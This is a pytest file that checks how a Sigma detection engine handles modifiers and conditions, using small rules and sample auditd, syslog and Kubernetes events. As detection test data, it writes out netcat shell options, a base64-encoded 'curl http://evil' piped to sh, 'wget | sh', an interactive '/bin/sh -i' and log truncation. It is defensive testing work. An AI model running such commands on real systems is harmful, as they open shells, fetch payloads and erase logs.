"""Each modifier, value type and condition form means what the Sigma specification says
(https://sigmahq.io/docs/basics/modifiers.html), on small rules written here."""

from __future__ import annotations

import base64

import pytest

from runwatch.event import Event
from runwatch.rules.sigma import SigmaDetector
from tests.rules.sigma.conftest import KUBERNETES, DetectorMaker, audit_event, k8s_event


def fires(detector: SigmaDetector, event: Event) -> bool:
    return len(detector.match([event])) == 1


def execve(*args: str) -> Event:
    """An auditd group with one EXECVE record of these arguments."""
    return audit_event({"type": "EXECVE", "argc": str(len(args)),
                        **{f"a{i}": arg for i, arg in enumerate(args)}})


def test_plain_strings_match_whole_values_case_insensitively(detector: DetectorMaker) -> None:
    rule = detector("    selection:\n        a0: getcap\n    condition: selection")
    assert fires(rule, execve("getcap", "-r", "/")) and fires(rule, execve("GetCap"))
    assert not fires(rule, execve("/usr/sbin/getcap")) and not fires(rule, execve("getcaps"))


@pytest.mark.parametrize(("modifier", "hits", "misses"), [
    ("contains", ["-x nc -e", "NC"], ["n c"]),
    ("startswith", ["nc -l", "NC"], ["/bin/nc"]),
    ("endswith", ["/bin/nc", "/BIN/NC"], ["nc -l"]),
])
def test_contains_startswith_endswith(detector: DetectorMaker, modifier: str, hits: list[str],
                                      misses: list[str]) -> None:
    rule = detector(f"    selection:\n        a1|{modifier}: nc\n    condition: selection")
    assert all(fires(rule, execve("x", hit)) for hit in hits)
    assert not any(fires(rule, execve("x", miss)) for miss in misses)


def test_a_value_list_is_any_of_and_all_makes_it_every(detector: DetectorMaker) -> None:
    any_of = detector("    selection:\n        a1|contains: ['-e', '-c']\n    condition: selection")
    assert fires(any_of, execve("nc", "-lp 80 -e sh")) and fires(any_of, execve("nc", "-c x"))
    assert not fires(any_of, execve("nc", "-lp 80"))
    every = detector("    selection:\n        a1|contains|all: ['-e', 'sh']\n"
                     "    condition: selection")
    assert fires(every, execve("nc", "-lp 80 -e /bin/SH"))
    assert fires(every, execve("nc", "-lp 80 -e bash"))  # 'sh' is in 'bash'
    assert not fires(every, execve("nc", "-lp 80 -e python"))
    assert not fires(every, execve("nc", "-lp 80 sh"))  # '-e' is missing


def test_wildcards_and_escaped_wildcards(detector: DetectorMaker) -> None:
    rule = detector("    selection:\n        a0: '/usr/*/p?thon3*'\n"
                    "    literal:\n        a1: 'a\\*b'\n    condition: selection or literal")
    assert fires(rule, execve("/usr/bin/python3.11")) and fires(rule, execve("/USR/local/PXTHON3"))
    assert not fires(rule, execve("/usr/bin/pthon3"))  # ? is exactly one character
    assert fires(rule, execve("x", "A*B")) and not fires(rule, execve("x", "aXb"))


def test_re_searches_case_sensitively_unless_flagged(detector: DetectorMaker) -> None:
    rule = detector("    selection:\n        a1|re: '\\s-O\\s'\n    condition: selection")
    assert fires(rule, execve("wget", "http://x -O /tmp/a"))
    assert not fires(rule, execve("wget", "http://x -o /tmp/a"))
    flagged = detector("    selection:\n        a1|re|i: '^-o$'\n    condition: selection")
    assert fires(flagged, execve("wget", "-O")) and not fires(flagged, execve("wget", "x -O"))
    multiline = detector("    selection:\n        a1|re|m: '^two$'\n    condition: selection")
    assert fires(multiline, execve("x", "one\ntwo\nthree"))
    dotall = detector("    selection:\n        a1|re|s: 'one.two'\n    condition: selection")
    assert fires(dotall, execve("x", "one\ntwo"))
    plain = detector("    selection:\n        a1|re: 'one.two'\n    condition: selection")
    assert not fires(plain, execve("x", "one\ntwo"))


def test_base64_and_base64offset(detector: DetectorMaker) -> None:
    rule = detector("    selection:\n        a2|base64|contains: 'curl http'\n"
                    "    condition: selection")
    encoded = base64.b64encode(b"curl http://evil").decode()
    assert fires(rule, execve("sh", "-c", f"echo {encoded} | base64 -d | sh"))
    shifted = detector("    selection:\n        a2|base64offset|contains: '/bin/sh'\n"
                       "    condition: selection")
    for prefix in (b"", b"x", b"xy"):  # the text at each offset within base64's 3-byte groups
        payload = base64.b64encode(prefix + b"exec /bin/sh -i").decode()
        assert fires(shifted, execve("sh", "-c", f"echo {payload}"))
    assert not fires(shifted, execve("sh", "-c", base64.b64encode(b"exec /bin/bash").decode()))


def test_windash_accepts_any_dash_form(detector: DetectorMaker) -> None:
    rule = detector("    selection:\n        a1|windash|contains: ' -enc '\n"
                    "    condition: selection")
    for dash in ("-", "/", "\u2013", "\u2014", "\u2015"):
        assert fires(rule, execve("pwsh", f"x {dash}enc AAAA"))
    assert not fires(rule, execve("pwsh", "x +enc AAAA"))


def test_cidr_over_ipv4_and_ipv6(detector: DetectorMaker) -> None:
    rule = detector("    selection:\n        laddr|cidr: ['10.0.0.0/8', 'fc00::/7']\n"
                    "    condition: selection")
    assert fires(rule, audit_event({"type": "SOCKADDR", "laddr": "10.20.30.40"}))
    assert fires(rule, audit_event({"type": "SOCKADDR", "laddr": "fd12::1"}))
    assert not fires(rule, audit_event({"type": "SOCKADDR", "laddr": "192.168.1.1"}))
    assert not fires(rule, audit_event({"type": "SOCKADDR", "laddr": "not an address"}))


def test_exists_null_and_empty(detector: DetectorMaker) -> None:
    exists = detector("    selection:\n        key|exists: true\n    condition: selection")
    assert fires(exists, audit_event({"type": "SYSCALL", "key": "x"}))
    assert not fires(exists, audit_event({"type": "SYSCALL"}))
    missing = detector("    selection:\n        type: SYSCALL\n        key|exists: false\n"
                       "    condition: selection")
    assert fires(missing, audit_event({"type": "SYSCALL"}))
    null = detector("    selection:\n        type: SYSCALL\n        key: null\n"
                    "    condition: selection")
    assert fires(null, audit_event({"type": "SYSCALL"}))
    assert not fires(null, audit_event({"type": "SYSCALL", "key": ""}))  # empty is not absent
    empty = detector("    selection:\n        key: ''\n    condition: selection")
    assert fires(empty, audit_event({"type": "SYSCALL", "key": ""}))
    assert not fires(empty, audit_event({"type": "SYSCALL"}))


def test_fieldref_compares_two_fields(detector: DetectorMaker) -> None:
    rule = detector("    selection:\n        uid|fieldref: euid\n    condition: not selection")
    assert fires(rule, audit_event({"type": "SYSCALL", "uid": "1000", "euid": "0"}))
    assert not fires(rule, audit_event({"type": "SYSCALL", "uid": "0", "euid": "0"}))


@pytest.mark.parametrize(("modifier", "hits", "misses"), [
    ("lt", ["999", "-1"], ["1000", "65534"]), ("lte", ["1000"], ["1001"]),
    ("gt", ["1001"], ["1000", "not a number"]), ("gte", ["1000", "1000.0"], ["999"]),
])
def test_numeric_comparisons(detector: DetectorMaker, modifier: str, hits: list[str],
                             misses: list[str]) -> None:
    rule = detector(f"    selection:\n        uid|{modifier}: 1000\n    condition: selection")
    assert all(fires(rule, audit_event({"type": "SYSCALL", "uid": uid})) for uid in hits)
    assert not any(fires(rule, audit_event({"type": "SYSCALL", "uid": uid})) for uid in misses)


def test_neq_and_cased(detector: DetectorMaker) -> None:
    rule = detector("    selection:\n        type: SYSCALL\n        comm|neq: sshd\n"
                    "    condition: selection")
    assert fires(rule, audit_event({"type": "SYSCALL", "comm": "bash"}))
    assert not fires(rule, audit_event({"type": "SYSCALL", "comm": "SSHD"}))
    cased = detector("    selection:\n        a0|cased|endswith: '/Nc'\n    condition: selection")
    assert fires(cased, execve("/tmp/Nc")) and not fires(cased, execve("/tmp/nc"))


def test_numbers_booleans_and_lists_in_kubernetes_objects(detector: DetectorMaker) -> None:
    rule = detector("    selection:\n        responseStatus.code: [401, 403]\n"
                    "    condition: selection", KUBERNETES)
    assert fires(rule, k8s_event({"responseStatus": {"code": 403}}))
    assert not fires(rule, k8s_event({"responseStatus": {"code": 200}}))
    privileged = detector("    selection:\n        requestObject.spec.containers.securityContext."
                          "privileged: true\n        requestObject.spec.containers.image|"
                          "contains|all: ['nginx', 'busybox']\n    condition: selection",
                          KUBERNETES)
    def pod(second_is_privileged: bool) -> dict[str, object]:
        return {"requestObject": {"spec": {"containers": [
            {"image": "nginx:1.25", "securityContext": {"privileged": False}},
            {"image": "busybox", "securityContext": {"privileged": second_is_privileged}}]}}}
    assert fires(privileged, k8s_event(pod(True)))  # a list matches when one of its items does
    assert not fires(privileged, k8s_event(pod(False)))


def test_keywords_search_anywhere_in_the_text(detector: DetectorMaker) -> None:
    rule = detector("    keywords:\n        - 'Failed password'\n        - 'wget * | sh'\n"
                    "    condition: keywords", "product: linux\n  service: sshd")
    line: Event = {"evt.source": "syslog", "log.program": "sshd",
                   "log.message": "FAILED PASSWORD for root from 203.0.113.9 port 22 ssh2"}
    assert fires(rule, line)
    assert fires(rule, {**line, "log.message": "cmd: wget http://x/a | sh -s"})
    assert not fires(rule, {**line, "log.message": "Accepted password for root"})
    every = detector("    keywords:\n        '|all':\n            - 'networkd-dispatcher'\n"
                     "            - '../../'\n    condition: keywords", "product: linux")
    assert fires(every, {"evt.source": "syslog", "log.message": "networkd-dispatcher: ../../x"})
    assert not fires(every, {"evt.source": "syslog", "log.message": "networkd-dispatcher: ok"})


def test_auditd_keywords_match_one_value_of_a_record(detector: DetectorMaker) -> None:
    rule = detector("    keywords:\n        - 'truncate -s0'\n    condition: keywords")
    assert fires(rule, audit_event({"type": "PROCTITLE", "proctitle": "truncate -s0 /var/log/x"}))
    assert not fires(rule, audit_event({"type": "EXECVE", "a0": "truncate", "a1": "-s0"}))


@pytest.mark.parametrize(("condition", "hits"), [
    ("1 of selection_*", {"a", "b", "ab"}), ("all of selection_*", {"ab"}),
    ("1 of them", {"a", "b", "ab", "c"}), ("all of them", set()),
    ("selection_a and not selection_b", {"a"}),
    ("(selection_a or selection_b) and not other_c", {"a", "b", "ab"}),
])
def test_selection_patterns_and_operators(detector: DetectorMaker, condition: str,
                                          hits: set[str]) -> None:
    rule = detector("    selection_a:\n        a1: a\n    selection_b:\n        a2: b\n"
                    f"    other_c:\n        a3: c\n    condition: {condition}")
    events = {"a": execve("x", "a"), "b": execve("x", "", "b"), "ab": execve("x", "a", "b"),
              "c": execve("x", "", "", "c")}
    assert {name for name, event in events.items() if fires(rule, event)} == hits


def test_several_conditions_are_any_of_them(detector: DetectorMaker) -> None:
    rule = detector("    one:\n        a1: a\n    two:\n        a2: b\n"
                    "    condition:\n        - one\n        - two")
    assert fires(rule, execve("x", "a")) and fires(rule, execve("x", "", "b"))
    assert not fires(rule, execve("x", "b"))
